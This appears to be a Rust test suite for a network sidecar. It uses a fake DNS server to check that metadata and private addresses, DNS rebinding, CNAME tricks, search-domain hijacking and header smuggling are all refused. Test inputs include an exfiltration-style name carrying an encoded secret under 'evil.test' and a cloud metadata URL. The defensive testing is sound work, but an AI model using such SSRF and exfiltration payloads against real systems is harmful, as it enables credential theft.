//! Where a name leads: a sidecar in a network of its own, with a name server that says what an attacker would have it
//! say, and the addresses that nobody may reach listening there.

mod ourselves;

use std::collections::BTreeMap;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use super::{outcome, request, send};
use crate::support::agent::{get, with};
use crate::support::namespace::can_have_namespaces;
use crate::support::{Agent, Builder, FakeUpstream, Namespace, Stage, TestSidecar, canary, policies, skip};

/// A public address, which is an upstream's in there.
const PUBLIC: &str = "9.9.9.9";
/// Metadata services, which listen in there.
const METADATA: [&str; 6] =
    ["169.254.169.254", "169.254.170.2", "169.254.170.23", "100.100.100.200", "192.0.0.192", "fd00:ec2::254"];

/// What a name server says.
#[derive(Debug, Clone)]
enum Reply {
    Addresses(Vec<IpAddr>),
    /// Another name's, behind a `CNAME`.
    Alias(&'static str, Vec<IpAddr>),
    /// A code: 2 is SERVFAIL, 3 is NXDOMAIN.
    Code(u8),
    Silence,
    /// A record whose name points at itself.
    Loop,
    /// As much as a datagram takes.
    Huge,
    /// One thing the first time it is asked for an address, and another ever after.
    Turns(Box<[Self; 2]>),
}

/// A name server, and what it was asked.
#[derive(Clone, Default)]
struct Names {
    replies: Arc<Mutex<BTreeMap<String, Reply>>>,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Names {
    fn say(&self, name: &str, reply: Reply) {
        self.replies.lock().expect("not poisoned").insert(name.to_owned(), reply);
    }

    /// The names that were asked for, each time once for each family.
    fn asked(&self) -> Vec<String> {
        self.asked.lock().expect("not poisoned").clone()
    }

    /// The answer to a question, if there is one (RFC 1035, 4.1).
    fn answer(&self, question: &[u8]) -> Option<Vec<u8>> {
        let (mut name, mut at) = (Vec::new(), 12);
        while question[at] != 0 {
            let end = at + 1 + usize::from(question[at]);
            name.push(String::from_utf8_lossy(&question[at + 1..end]).to_ascii_lowercase());
            at = end;
        }
        let (name, kind, end) = (name.join("."), question[at + 2], at + 5);
        self.asked.lock().expect("not poisoned").push(name.clone());
        let mut reply = self.replies.lock().expect("not poisoned").get(&name).cloned().unwrap_or(Reply::Code(3));
        if let Reply::Turns(turns) = reply {
            let [first, then] = *turns;
            if kind == 1 {
                self.say(&name, then);
            }
            reply = first;
        }
        let head = |code: u8, count: u8| {
            [&question[..2], &[0x81, 0x80 | code, 0, 1, 0, count, 0, 0, 0, 0], &question[12..end]].concat()
        };
        let record = |kind: u8, data: &[u8]| {
            let length = u16::try_from(data.len()).expect("short").to_be_bytes();
            [&[0xc0, 12, 0, kind, 0, 1, 0, 0, 0, 0][..], &length, data].concat()
        };
        let records = |addresses: &[IpAddr]| -> Vec<Vec<u8>> {
            let of = |address: &IpAddr| match address {
                IpAddr::V4(address) if kind == 1 => Some(record(1, &address.octets())),
                IpAddr::V6(address) if kind == 28 => Some(record(28, &address.octets())),
                _ => None,
            };
            addresses.iter().filter_map(of).collect()
        };
        match reply {
            Reply::Addresses(addresses) => {
                let records = records(&addresses);
                Some([head(0, u8::try_from(records.len()).expect("few")), records.concat()].concat())
            }
            Reply::Alias(other, addresses) => {
                let labels = other
                    .split('.')
                    .flat_map(|label| [&[u8::try_from(label.len()).expect("short")][..], label.as_bytes()].concat());
                let target: Vec<u8> = labels.chain([0]).collect();
                let records = records(&addresses);
                // The records are the other name's, which stands in the first of them.
                let place = 0xc000 | u16::try_from(end + 12).expect("small");
                let moved = records.iter().flat_map(|record| [&place.to_be_bytes(), &record[2..]].concat());
                let all: Vec<u8> = record(5, &target).into_iter().chain(moved).collect();
                Some([head(0, u8::try_from(records.len() + 1).expect("few")), all].concat())
            }
            Reply::Code(code) => Some(head(code, 0)),
            Reply::Silence | Reply::Turns(_) => None,
            Reply::Loop => {
                let place = 0xc000 | u16::try_from(end).expect("small");
                Some([&head(0, 1)[..], &place.to_be_bytes(), &[0, kind, 0, 1, 0, 0, 0, 0, 0, 4, 9, 9, 9, 9]].concat())
            }
            Reply::Huge => Some([head(0, 255), vec![0xc0; 60_000]].concat()),
        }
    }
}

/// The sidecar, its name server and what must not be reached.
struct Net {
    sidecar: TestSidecar,
    agent: Agent,
    nonce: String,
    names: Names,
    upstream: FakeUpstream,
    trapped: Arc<AtomicUsize>,
    _tasks: tokio::task::JoinSet<()>,
}

fn addresses(list: &[&str]) -> Vec<IpAddr> {
    list.iter().map(|text| text.parse().expect("an address")).collect()
}

/// The name servers of this machine, whose addresses the one in there takes; `None` where names are not looked up by
/// them alone.
fn name_servers() -> Option<Vec<IpAddr>> {
    let switch = std::fs::read_to_string("/etc/nsswitch.conf").unwrap_or_default();
    let sources = switch.lines().find_map(|line| line.strip_prefix("hosts:")).unwrap_or("files dns").to_owned();
    if sources.split_whitespace().any(|source| source != "files" && source != "dns") {
        skip(format!("names are looked up by {sources}"));
        return None;
    }
    let text = std::fs::read_to_string("/etc/resolv.conf").unwrap_or_default();
    let servers = text.lines().filter_map(|line| line.strip_prefix("nameserver")?.trim().parse().ok());
    let servers: Vec<IpAddr> = servers.collect();
    Some(if servers.is_empty() { vec![Ipv4Addr::LOCALHOST.into()] } else { servers })
}

fn with_prefix(address: IpAddr) -> String {
    format!("{address}/{}", if address.is_ipv4() { 32 } else { 128 })
}

impl Net {
    /// With these hosts in the policy. `None` where there can be no such network.
    async fn new(hosts: &[String], line: &str, edit: impl FnOnce(Builder) -> Builder) -> Option<Self> {
        if !can_have_namespaces() {
            return None;
        }
        let servers = name_servers()?;
        let namespace = Arc::new(Namespace::new());
        let own = servers.iter().copied().filter(|server| !server.is_loopback());
        for address in own.chain(addresses(&METADATA)).chain(addresses(&[PUBLIC, "10.9.9.9"])) {
            namespace.shell(&format!("ip addr add {} dev lo", with_prefix(address)));
        }
        let (names, trapped, mut tasks) = (Names::default(), Arc::default(), tokio::task::JoinSet::new());
        for server in servers {
            let socket = namespace.inside(0, || std::net::UdpSocket::bind((server, 53))).expect("a port");
            socket.set_nonblocking(true).expect("an option");
            tasks.spawn(serve(tokio::net::UdpSocket::from_std(socket).expect("a socket"), names.clone()));
        }
        for address in addresses(&METADATA).into_iter().chain(addresses(&["10.9.9.9", "127.0.0.1"])) {
            let listener = namespace.listener(&SocketAddr::new(address, 443).to_string());
            tasks.spawn(trap(listener, Arc::clone(&trapped)));
        }
        let certified: Vec<&str> = hosts.iter().map(String::as_str).filter(|host| !host.starts_with('1')).collect();
        let upstream = FakeUpstream::start_on(namespace.listener(&format!("{PUBLIC}:443")), &certified);
        let list = format!("hosts = {hosts:?}");
        let policy = policies::one_api_with(line).replace("hosts = [\"api.test\"]", &list);
        let builder = TestSidecar::with_policy(&policy)
            .file("api.pem", &upstream.authority.pem)
            .environment("API_KEY", &canary())
            .environment("RES_OPTIONS", "timeout:1 attempts:1")
            .inside(&namespace);
        let sidecar = edit(builder).start().await;
        let near = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("a port");
        let agent = sidecar.agent().at(near.local_addr().expect("an address"));
        tasks.spawn(bridge(near, namespace.clone(), sidecar.proxy));
        let nonce = sidecar.orchestrator().mint("worker", "api", "read").await.nonce;
        Some(Self { sidecar, agent, nonce, names, upstream, trapped, _tasks: tasks })
    }

    /// Status and refusal of a `GET` to this host.
    async fn ask(&self, host: &str) -> (u16, Option<String>) {
        let reply = self.agent.get(host, "/x", &self.nonce).await;
        (reply.status.as_u16(), reply.refusal().map(str::to_owned))
    }

    async fn assert_forbidden(&self, host: &str, why: &str) {
        assert_eq!(self.ask(host).await, (403, Some("address_forbidden".to_owned())), "{host}: {why}");
    }

    fn assert_nobody_reached(&self) {
        assert_eq!(self.trapped.load(Ordering::SeqCst), 0, "an address that nobody may reach was dialled");
    }
}

async fn serve(socket: tokio::net::UdpSocket, names: Names) {
    let mut question = [0; 512];
    while let Ok((count, from)) = socket.recv_from(&mut question).await {
        if let Some(answer) = names.answer(&question[..count]) {
            let _ = socket.send_to(&answer, from).await;
        }
    }
}

async fn trap(listener: tokio::net::TcpListener, trapped: Arc<AtomicUsize>) {
    while listener.accept().await.is_ok() {
        trapped.fetch_add(1, Ordering::SeqCst);
    }
}

/// Leads from here to the sidecar in its own network.
async fn bridge(near: tokio::net::TcpListener, namespace: Arc<Namespace>, to: SocketAddr) {
    while let Ok((mut client, _)) = near.accept().await {
        let mut far = namespace.connect(0, &to.to_string()).await.expect("the sidecar");
        tokio::spawn(async move { tokio::io::copy_bidirectional(&mut client, &mut far).await });
    }
}

/// The addresses of the vectors of these kinds, each with a name.
fn vectors(kinds: &[&str]) -> Vec<(String, IpAddr, String)> {
    let text = include_str!("../../vectors/addresses.json");
    let vectors: BTreeMap<String, Vec<(String, String)>> = serde_json::from_str(text).expect("vectors");
    let rows = kinds.iter().flat_map(|kind| vectors[*kind].clone());
    let named = rows.enumerate().map(|(number, (address, why))| {
        (format!("v{number}.test"), address.parse().expect("an address"), format!("{address}, {why}"))
    });
    named.collect()
}

#[tokio::test]
async fn no_name_leads_to_an_address_that_nobody_may_reach() {
    for (line, kinds) in [("", &["private", "never"][..]), ("private = true", &["never"])] {
        let vectors = vectors(kinds);
        assert!(vectors.len() > 50);
        let mut hosts: Vec<String> = vectors.iter().map(|(name, _, _)| name.clone()).collect();
        hosts.extend(["good.test", "metadata.google.internal"].map(str::to_owned));
        hosts.extend(METADATA[..5].iter().map(ToString::to_string));
        let Some(net) = Net::new(&hosts, line, |builder| builder).await else { return };
        for (name, address, why) in &vectors {
            net.names.say(name, Reply::Addresses(vec![*address]));
            net.assert_forbidden(name, why).await;
        }
        net.names.say("metadata.google.internal", Reply::Addresses(addresses(&["169.254.169.254"])));
        net.assert_forbidden("metadata.google.internal", "a name").await;
        for address in &METADATA[..5] {
            net.assert_forbidden(address, "as it stands in the policy").await;
        }
        net.names.say("good.test", Reply::Addresses(addresses(&[PUBLIC])));
        assert_eq!(net.ask("good.test").await, (200, None), "so that the others failed for their addresses");
        net.assert_nobody_reached();
    }
}

#[tokio::test]
async fn one_bad_address_among_good_ones_refuses_the_name() {
    let hosts = ["two.test", "six.test", "alias.test", "good.test"].map(str::to_owned);
    let Some(net) = Net::new(&hosts, "", |builder| builder).await else { return };
    net.names.say("two.test", Reply::Addresses(addresses(&[PUBLIC, "10.9.9.9"])));
    net.names.say("six.test", Reply::Addresses(addresses(&[PUBLIC, "fd00:ec2::254"])));
    net.names.say("alias.test", Reply::Alias("metadata.google.internal", addresses(&["169.254.169.254"])));
    for name in &hosts[..3] {
        net.assert_forbidden(name, "one is bad").await;
    }
    net.names.say("good.test", Reply::Alias("elsewhere.test", addresses(&[PUBLIC])));
    assert_eq!(net.ask("good.test").await, (200, None));
    net.assert_nobody_reached();
}

#[tokio::test]
async fn the_address_that_was_judged_is_the_one_that_is_dialled() {
    let hosts = ["flip.test".to_owned()];
    for bad in ["169.254.169.254", "10.9.9.9", "127.0.0.1"] {
        let Some(net) = Net::new(&hosts, "", |builder| builder.flag("--idle-timeout").flag("1s")).await else { return };
        let turns = [Reply::Addresses(addresses(&[PUBLIC])), Reply::Addresses(addresses(&[bad]))];
        net.names.say("flip.test", Reply::Turns(Box::new(turns)));
        assert_eq!(net.ask("flip.test").await, (200, None), "{bad}");
        assert_eq!(net.names.asked(), ["flip.test", "flip.test"], "once, for both families");
        net.assert_nobody_reached();
        // And judged anew when it is dialled anew.
        drop(net.upstream);
        let refused = "address_forbidden";
        let mut last = net.agent.get("flip.test", "/x", &net.nonce).await;
        if last.refusal() != Some(refused) {
            // The connection was still kept.
            last = net.agent.get("flip.test", "/x", &net.nonce).await;
        }
        assert_eq!(last.refusal(), Some(refused), "{bad}");
        assert_eq!(net.trapped.load(Ordering::SeqCst), 0, "{bad}");
    }
}

#[tokio::test]
async fn a_name_is_asked_for_as_it_stands() {
    let hosts = ["api", "kubernetes.default.svc", "api.internal", "printer.local"].map(str::to_owned);
    let search = |builder: Builder| {
        builder.environment("LOCALDOMAIN", "evil.test").environment("RES_OPTIONS", "ndots:9 timeout:1 attempts:1")
    };
    let Some(net) = Net::new(&hosts, "", search).await else { return };
    for name in &hosts {
        net.names.say(&format!("{name}.evil.test"), Reply::Addresses(addresses(&[PUBLIC])));
        assert_eq!(net.ask(name).await, (502, Some("upstream_unreachable".to_owned())), "{name}: nobody's");
        net.names.say(name, Reply::Addresses(addresses(&["10.9.9.9"])));
        net.assert_forbidden(name, "what it leads to is judged").await;
    }
    let asked = net.names.asked();
    assert!(asked.iter().all(|name| hosts.contains(name)), "{asked:?}");
    assert!(net.upstream.seen().is_empty());
    net.assert_nobody_reached();
}

#[tokio::test]
async fn a_name_server_that_fails_harms_one_request() {
    let hosts = ["bad.test".to_owned()];
    let Some(net) = Net::new(&hosts, "", |builder| builder).await else { return };
    for reply in
        [Reply::Code(3), Reply::Code(2), Reply::Silence, Reply::Loop, Reply::Huge, Reply::Addresses(Vec::new())]
    {
        net.names.say("bad.test", reply.clone());
        assert_eq!(net.ask("bad.test").await, (502, Some("upstream_unreachable".to_owned())), "{reply:?}");
    }
    net.names.say("bad.test", Reply::Addresses(addresses(&[PUBLIC])));
    assert_eq!(net.ask("bad.test").await, (200, None), "nothing of it is remembered");
    net.sidecar.audited(|record| record["type"] == "end" && record["status"] == 200).await;
}

#[tokio::test]
async fn no_name_is_looked_up_for_what_is_refused() {
    let hosts = ["good.test".to_owned()];
    let Some(net) = Net::new(&hosts, "", |builder| builder).await else { return };
    net.names.say("good.test", Reply::Addresses(addresses(&[PUBLIC])));
    let stolen = "c2VjcmV0.evil.test";
    net.agent.connect(&format!("{stolen}:443")).await;
    net.agent.connect(&format!("{stolen}:22")).await;
    net.agent.connect("good.test:22").await;
    let absolute = |host: &str| format!("GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
    for host in [stolen, "good.test", "169.254.169.254"] {
        let answer = net.agent.raw(absolute(host).as_bytes()).await;
        assert!(outcome(&answer).0 >= 400, "{host}: {answer}");
    }
    let bearer = format!("Bearer {}", net.nonce);
    let refused = [
        get("good.test", "/x", "an_0000000000000000000000000000000"),
        with("POST", "good.test", "/x", &[("authorization", &bearer)], ""),
        with("GET", "good.test", "/x", &[], ""),
        with("GET", "good.test", "/x", &[("authorization", &bearer), ("host", stolen)], ""),
        with("GET", "good.test", "/a/../b", &[("authorization", &bearer)], ""),
    ];
    for request in refused {
        assert!(net.agent.send(request).await.refusal().is_some());
    }
    assert_eq!(net.names.asked(), [""; 0], "what is refused asks nobody");
    assert_eq!(net.ask("good.test").await, (200, None));
    assert!(!net.names.asked().is_empty());
}

#[tokio::test]
async fn a_redirect_to_metadata_is_the_clients_to_follow_and_refused_there() {
    let there = "http://169.254.169.254/latest/meta-data/";
    let answer = format!("HTTP/1.1 302 Found\r\nLocation: {there}\r\nContent-Length: 0\r\n\r\n");
    let stage =
        Stage::with(FakeUpstream::raw(&["api.test"], move |_| answer.clone().into_bytes()).await, |builder| builder);
    let stage = stage.await;
    let nonce = stage.reader().await;
    let answer = send(&stage, &request("GET /x", "", &nonce, "")).await;
    assert!(answer.starts_with("HTTP/1.1 302") && answer.to_ascii_lowercase().contains(there), "{answer}");
    assert_eq!(stage.upstream.connections(), 1, "nobody followed it");
    let followed = format!("GET {there} HTTP/1.1\r\nHost: 169.254.169.254\r\nAuthorization: Bearer {nonce}\r\n\r\n");
    let answer = stage.sidecar.agent().raw(followed.as_bytes()).await;
    assert_eq!(outcome(&answer).0, 403, "{answer}");
    let (answer, _) = stage.sidecar.agent().connect("169.254.169.254:80").await;
    assert_eq!(outcome(&answer).0, 403, "{answer}");
}
